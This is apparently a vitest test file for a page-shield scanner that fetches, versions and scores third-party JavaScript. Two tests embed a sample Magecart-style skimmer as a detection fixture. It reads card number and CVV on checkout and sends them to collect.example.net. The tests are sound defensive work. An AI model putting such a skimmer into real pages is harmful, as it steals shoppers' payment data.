// From a script that browsers reported to its versions: fetched from a real server, analyzed in a real process, stored
// in a real database.
import { createAddressGuard, createHostAddresses, createSafeFetch } from '@zonereeve/safe-fetch'
import { createHash } from 'node:crypto'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { query } from '@zonereeve/storage'
import { startTestApp, type TestApp } from '../../../testing/app.ts'
import { createAnalyser, type AnalyserLimits } from './analyser.ts'
import { createScanning, DEFAULT_SCANNING_LIMITS, type Scanning, type ScanningLimits } from './scanning.ts'

const DAY = 86_400_000
const MINUTE = 60_000
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')

let app: TestApp
let server: Server
let port: number
let handler: (request: IncomingMessage, response: ServerResponse) => void
let asked: string[]
let scanning: Scanning
let zoneId: string

beforeAll(async () => {
  server = createServer((request, response) => {
    asked.push(request.url ?? '')
    handler(request, response)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', () => done()))
  const address = server.address()
  port = address === null || typeof address === 'string' ? 0 : address.port
})
afterAll(() => {
  server.closeAllConnections()
  server.close()
})
beforeEach(async () => {
  app = await startTestApp()
  asked = []
  zoneId = (await app.must('POST', '/zones', { name: 'example.com' })).id
  await app.must('PUT', path(''), { enabled: true })
  scanning = open()
})
afterEach(async () => {
  await scanning.close()
  await app.close()
})

const path = (text: string) => `/zones/${zoneId}/page_shield${text}`
const own = (text: string) => `/zonereeve/zones/${zoneId}/page_shield${text}`
const urlOf = (file: string, host = '127.0.0.1') => `http://${host}:${port}${file}`

function open(limits: Partial<ScanningLimits> = {}, analysis: Partial<AnalyserLimits> = {}): Scanning {
  const { clock, pageShield } = app
  return createScanning({
    contents: pageShield.contents,
    safeFetch: createSafeFetch({
      mayConnect: createAddressGuard(['127.0.0.0/8', '::1']),
      hostAddresses: createHostAddresses([]),
      ports: 'any',
      userAgent: 'tests',
    }),
    analyser: createAnalyser({ maxMillis: 20_000, maxHeapMib: 512, ...analysis }),
    clock,
    log: {
      debug() {},
      info() {},
      warn() {},
      error: (fields) => void app.logged.push({ level: 'error', event: 'scan', fields }),
    },
    limits: { ...DEFAULT_SCANNING_LIMITS, totalMillis: 3000, idleMillis: 2000, ...limits },
  })
}

/** Reports page views of scripts. @returns the id of the first script. */
async function meet(scripts: readonly string[], pageViews = 3): Promise<string> {
  const view = { page_url: 'https://www.example.com/', scripts }
  await app.must('POST', own('/observations'), {
    observations: Array.from({ length: pageViews }, () => view),
  })
  const listed = await app.must<{ id: string; url: string }[]>(
    'GET',
    path('/scripts?status=active,infrequent,inactive'),
  )
  return listed.find(({ url }) => url === scripts[0])?.id ?? ''
}

async function scanOnce(): Promise<void> {
  await scanning.tick()
  await scanning.waitUntilIdle()
}

const script = (id: string) => app.must<Record<string, unknown>>('GET', path(`/scripts/${id}`))
const contents = (id: string) => app.must<Record<string, unknown>>('GET', own(`/scripts/${id}/contents`))
const explanation = (id: string) =>
  app.must<Record<string, unknown>>('GET', own(`/scripts/${id}/explanation`))
const send =
  (body: string | Buffer, headers: Record<string, string> = {}) =>
  (_request: IncomingMessage, response: ServerResponse) =>
    void response.writeHead(200, { 'content-type': 'text/javascript', ...headers }).end(body)

const explanationOf = async (id: string) =>
  (await app.must<{ kind: string; resource_id: string }[]>('GET', own('/events')))
    .filter(({ resource_id: of }) => of === id)
    .map(({ kind }) => kind)
/** Too much for a small process or for one millisecond, and longer than the scoring limit. */
const HUGE = 'a;'.repeat(400_000)

describe('the scanner', () => {
  test('fetches a script when it is first detected, and shows its contents', async () => {
    handler = send('var a = 1')
    const id = await meet([urlOf('/a.js')], 1)
    expect(await script(id)).toMatchObject({ hash: null, fetched_at: null, versions: [] })
    await scanOnce()
    expect(asked).toEqual(['/a.js'])
    const hash = expect.stringMatching(/^[0-9a-f]{64}$/)
    const fetched_at = '2026-01-05T10:20:30Z'
    expect(await script(id)).toMatchObject({ hash, fetched_at, versions: [{ hash, fetched_at }] })
    expect(await contents(id)).toMatchObject({
      content_sha256: sha256('var a = 1'),
      sri: `sha384-${createHash('sha384').update('var a = 1').digest('base64')}`,
      next_fetch_at: '2026-01-06T10:20:30Z',
      problem: null,
    })
    await scanOnce()
    expect(asked).toHaveLength(1)
  })

  test('a script that is not UTF-8 is decoded with the charset from its server', async () => {
    const body = Buffer.from('var gr\xf6\xdfe = 1', 'latin1')
    handler = (request, response) =>
      send(body, {
        'content-type': `text/javascript${request.url === '/a.js' ? '; charset="ISO-8859-1"' : ''}`,
      })(request, response)
    const known = await meet([urlOf('/a.js')])
    await scanOnce()
    app.clock.advance(MINUTE)
    const unknown = await meet([urlOf('/b.js')])
    await scanOnce()
    const octets = createHash('sha256').update(body).digest('hex')
    // As UTF-8 its name is invalid, so it would be no script and be compared byte by byte.
    expect((await script(unknown))['hash']).toBe(octets)
    expect((await script(known))['hash']).toMatch(/^[0-9a-f]{64}$/)
    expect((await script(known))['hash']).not.toBe(octets)
  })

  test('other formatting is no new version; another structure is a new version with an event', async () => {
    handler = send('var a = 1')
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    const first = await script(id)
    app.clock.advance(DAY)
    handler = send('var a   =   2 // another number')
    await scanOnce()
    const second = await script(id)
    expect(second).toMatchObject({ hash: first['hash'], fetched_at: '2026-01-06T10:20:30Z' })
    expect(second['versions']).toHaveLength(1)
    expect(await contents(id)).toMatchObject({ content_sha256: sha256('var a   =   2 // another number') })
    app.clock.advance(DAY)
    handler = send('steal(a)')
    await scanOnce()
    expect((await script(id))['versions']).toHaveLength(2)
    const events = await app.must<{ kind: string; previous_hash: string }[]>('GET', own('/events'))
    expect(events.filter(({ kind }) => kind === 'script.changed')).toMatchObject([
      { previous_hash: first['hash'] },
    ])
  })

  test('sends conditional requests, and keeps the version if nothing changed', async () => {
    const conditions: (string | undefined)[] = []
    handler = (request, response) => {
      conditions.push(request.headers['if-none-match'])
      if (request.headers['if-none-match'] === '"1"') response.writeHead(304).end()
      else response.writeHead(200, { etag: '"1"' }).end('a()')
    }
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    const before = await script(id)
    app.clock.advance(DAY)
    await scanOnce()
    expect(conditions).toEqual([undefined, '"1"'])
    const fetched_at = '2026-01-06T10:20:30Z'
    expect(await script(id)).toMatchObject({
      hash: before['hash'],
      fetched_at,
      versions: [{ hash: before['hash'], fetched_at }],
    })
  })

  test('a skimmer is malicious, with reasons and an event', async () => {
    handler = send('var a = 1')
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    expect(await explanation(id)).toMatchObject({ malicious: false, because: [], threshold: 10 })
    app.clock.advance(DAY)
    handler = send(`document.querySelector('#checkout').addEventListener('submit', function () {
      var data = { number: document.getElementById('cc-number').value, cvv: document.getElementById('cvv').value }
      new Image().src = 'https://collect.example.net/g.gif?d=' + btoa(JSON.stringify(data))
    })`)
    await scanOnce()
    const reported = await explanation(id)
    expect(reported).toMatchObject({ malicious: true, because: ['js_integrity_score'] })
    expect(reported['js_integrity_score']).toBeLessThan(10)
    expect(reported['reasons']).toContainEqual(expect.stringMatching(/^magecart_score: /))
    expect(reported['versions']).toMatchObject([
      { reasons: reported['reasons'] },
      { js_integrity_score: expect.any(Number) },
    ])
    const events = await app.must<{ kind: string; resource_id: string }[]>('GET', own('/events'))
    expect(events.filter(({ kind }) => kind === 'script.reported')).toMatchObject([{ resource_id: id }])
    const [first] = await app.must<{ id: string }[]>('GET', path('/scripts?prioritize_malicious=true'))
    expect(first).toMatchObject({ id, js_integrity_score: reported['js_integrity_score'] })
  })

  test('a malicious script is cleared by harmless content, but not by a comment or by nesting depth', async () => {
    const skimmer = `document.querySelector('#checkout').addEventListener('submit', function () {
      var data = { number: document.getElementById('cc-number').value, cvv: document.getElementById('cvv').value }
      new Image().src = 'https://collect.example.net/g.gif?d=' + btoa(JSON.stringify(data))
    })`
    const contents = [
      ['unchanged', skimmer, 'scored'],
      ['with a comment', `${skimmer}/*${'x'.repeat(310_000)}*/`, 'scored'],
      ['with a comment of markup', `<!-- x\n${skimmer}`, 'scored'],
      ['with a page around it', '<!doctype html><p>not found', 'no_script'],
      ['too deep', `${'('.repeat(100_000)}1${')'.repeat(100_000)};`, 'too_deep'],
    ] as const
    handler = send(contents[0][1])
    const id = await meet([urlOf('/a.js')])
    for (const [name, body, analysis] of contents) {
      handler = send(body)
      await scanOnce()
      const reported = await explanation(id)
      expect([name, reported['malicious'], reported['analysis']]).toEqual([name, true, analysis])
      app.clock.advance(DAY)
    }
    const kinds = await explanationOf(id)
    expect(kinds).not.toContain('script.cleared')
    expect(kinds.filter((kind) => kind === 'script.reported')).toHaveLength(1)
    expect(kinds.filter((kind) => kind === 'script.analysis_ended')).toHaveLength(1)
    handler = send('document.title = 1')
    await scanOnce()
    expect(await explanation(id)).toMatchObject({ malicious: false, analysis: 'scored' })
    expect(await explanationOf(id)).toContain('script.cleared')
  })

  test('a body that is not a script is compared byte by byte, and is marked', async () => {
    handler = send('<!doctype html><p>hello')
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    expect(await script(id)).toMatchObject({ hash: sha256('<!doctype html><p>hello') })
    expect(await explanation(id)).toMatchObject({
      malicious: false,
      because: [],
      reasons: expect.arrayContaining([expect.stringMatching(/byte by byte/)]),
    })
  })

  test.each<readonly [string, Partial<AnalyserLimits>, string, RegExp]>([
    ['takes too long', { maxMillis: 1 }, 'out_of_time', /too long/],
    ['takes too much memory', { maxHeapMib: 48 }, 'broken_off', /memory/],
  ])(
    'a script whose analysis %s is marked, logged once, and retried only for new content',
    async (...row) => {
      const [, bounds, analysis, words] = row
      await scanning.close()
      scanning = open({}, bounds)
      handler = send(HUGE)
      const id = await meet([urlOf('/a.js')])
      await scanOnce()
      const reasons = expect.arrayContaining([expect.stringMatching(words)])
      const marked = { analysis, js_integrity_score: null, malicious: false, reasons }
      expect(await explanation(id)).toMatchObject({ ...marked, hash: sha256(HUGE), problem: null })
      expect(await contents(id)).toMatchObject({ analysis, failures: 0 })
      expect(await explanationOf(id)).toEqual(['script.analysis_ended', 'script.new'])
      const evidence = await app.call({ method: 'GET', path: own('/evidence') })
      expect(evidence.text).toContain(`,1,${analysis},,false,`)
      await scanning.close()

      // The same content, with an analyzer that could handle it.
      scanning = open()
      app.clock.advance(DAY)
      await scanOnce()
      expect(asked).toHaveLength(2)
      expect(await explanation(id)).toMatchObject({ ...marked, fetched_at: '2026-01-06T10:20:30Z' })
      expect(await explanationOf(id)).toHaveLength(2)

      app.clock.advance(DAY)
      handler = send('document.title = 1')
      await scanOnce()
      expect(await explanation(id)).toMatchObject({
        analysis: 'scored',
        js_integrity_score: expect.any(Number),
      })
      expect(await explanationOf(id)).toEqual(['script.changed', 'script.analysis_ended', 'script.new'])
    },
  )

  test('a script whose analysis was ended is retried by a newer analyzer version: same script version, no change', async () => {
    await scanning.close()
    scanning = open({}, { maxMillis: 1 })
    handler = send(HUGE)
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    const older = query
      .updateTable('page_shield_resources')
      .set({ fetch_memory: JSON.stringify({ analysis: 0, ended: 'time', validators: null }) })
    await app.storage.write((tx) => tx.run(older))
    app.clock.advance(DAY)
    await scanOnce()
    expect([asked.length, await explanationOf(id)]).toEqual([2, ['script.analysis_ended', 'script.new']])
    await scanning.close()
    scanning = open()
    await app.storage.write((tx) => tx.run(older))
    app.clock.advance(DAY)
    await scanOnce()
    expect(await explanation(id)).toMatchObject({
      analysis: 'scored',
      hash: expect.not.stringMatching(sha256(HUGE)),
    })
    expect((await script(id))['versions']).toHaveLength(1)
    expect(await explanationOf(id)).toHaveLength(2)
  })

  test.each<readonly [string, (request: IncomingMessage, response: ServerResponse) => void, string]>([
    ['not found', (_request, response) => void response.writeHead(404).end(), 'status'],
    ['an image', send('a', { 'content-type': 'image/png' }), 'type'],
    [
      'text with nosniff',
      send('a', { 'content-type': 'text/plain', 'x-content-type-options': 'nosniff' }),
      'type',
    ],
    ['more than five megabytes', send('a'.repeat(5 * 1_048_576 + 1)), 'size'],
    [
      'a redirect to a forbidden address',
      (_request, response) => void response.writeHead(302, { location: 'http://10.0.0.1/' }).end(),
      'address',
    ],
    ['a connection that breaks', (request) => void request.socket.destroy(), 'network'],
  ])('%s: stored as a failure, retried with growing delays', async (_name, answer, problem) => {
    handler = answer
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    expect(await script(id)).toMatchObject({ hash: null, fetched_at: null, versions: [] })
    expect(await contents(id)).toMatchObject({ failures: 1, problem, next_fetch_at: '2026-01-05T10:25:30Z' })
    app.clock.advance(4 * MINUTE)
    await scanOnce()
    expect(asked).toHaveLength(1)
    app.clock.advance(MINUTE)
    await scanOnce()
    expect(await contents(id)).toMatchObject({ failures: 2, problem, next_fetch_at: '2026-01-05T10:35:30Z' })
    app.clock.advance(10 * MINUTE)
    handler = send('a')
    await scanOnce()
    expect(await contents(id)).toMatchObject({ failures: 0, problem: null })
    expect(app.logged.filter(({ level }) => level === 'error')).toEqual([])
  })

  test('a failure keeps the existing version', async () => {
    handler = send('a()')
    const id = await meet([urlOf('/a.js')])
    await scanOnce()
    const before = await script(id)
    app.clock.advance(DAY)
    handler = (_request, response) => void response.writeHead(500).end()
    await scanOnce()
    expect(await script(id)).toEqual(before)
    expect(await contents(id)).toMatchObject({
      failures: 1,
      problem: 'status',
      content_sha256: sha256('a()'),
    })
  })

  test('only active scripts of monitored zones are fetched again', async () => {
    handler = send('a()')
    await meet([urlOf('/infrequent.js')], 1)
    await scanOnce()
    app.clock.advance(DAY)
    await scanOnce()
    expect(asked).toEqual(['/infrequent.js'])
    const id = await meet([urlOf('/infrequent.js')], 3)
    await app.must('PUT', path(''), { enabled: false })
    app.clock.advance(DAY)
    await scanOnce()
    expect(asked).toHaveLength(1)
    await app.must('PUT', path(''), { enabled: true })
    app.clock.advance(60 * MINUTE)
    await scanOnce()
    expect(asked).toHaveLength(2)
    expect(await contents(id)).toMatchObject({ next_fetch_at: '2026-01-08T11:20:30Z' })
  })

  test('fetches one at a time per site, with a pause; other sites meanwhile; bounded concurrency', async () => {
    await scanning.close()
    scanning = open({ fetches: 3 })
    let waiting = 0
    let most = 0
    const answers: (() => void)[] = []
    handler = (_request, response) => {
      waiting += 1
      most = Math.max(most, waiting)
      answers.push(() => {
        waiting -= 1
        response.end('a()')
      })
    }
    const hosts = ['a.localhost', 'x.a.localhost', '127.0.0.1', 'b.localhost', 'localhost']
    await meet(hosts.map((host, index) => urlOf(`/${index}.js`, host)))
    const arrived = async (count: number) => {
      while (asked.length < count) await new Promise((done) => setTimeout(done, 5))
    }
    await scanning.tick()
    await arrived(2)
    for (let ticks = 0; ticks < 5; ticks += 1) {
      await new Promise((done) => setTimeout(done, 20))
      await scanning.tick()
    }
    await arrived(3)
    expect(asked).toHaveLength(3)
    for (let rounds = 0; asked.length < 5 || answers.length > 0; rounds += 1) {
      if (rounds > 400) throw new Error(`only ${asked.join()}`)
      for (const answer of answers.splice(0)) answer()
      app.clock.advance(500)
      await new Promise((done) => setTimeout(done, 10))
      await scanning.tick()
    }
    await scanning.waitUntilIdle()
    expect(most).toBeLessThanOrEqual(3)
    expect(asked.toSorted()).toEqual(['/0.js', '/1.js', '/2.js', '/3.js', '/4.js'])
  })

  test('closing aborts running fetches, and their scripts are due at once', async () => {
    handler = () => {}
    const id = await meet([urlOf('/a.js')])
    await scanning.tick()
    while (asked.length === 0) await new Promise((done) => setTimeout(done, 5))
    await scanning.close()
    expect(await contents(id)).toMatchObject({ failures: 0, problem: null })
    expect(await app.pageShield.contents.dueForFetch(1)).toMatchObject([{ id }])
    await scanning.tick()
    expect(asked).toHaveLength(1)
  })

  test('a script deleted during its fetch is not an error', async () => {
    let answer = () => {}
    handler = (_request, response) => {
      answer = () => void response.end('a()')
    }
    await meet([urlOf('/a.js')])
    await scanning.tick()
    while (asked.length === 0) await new Promise((done) => setTimeout(done, 5))
    await app.must('DELETE', `/zones/${zoneId}`)
    answer()
    await scanning.waitUntilIdle()
    expect(app.logged.filter(({ level }) => level === 'error')).toEqual([])
  })
})
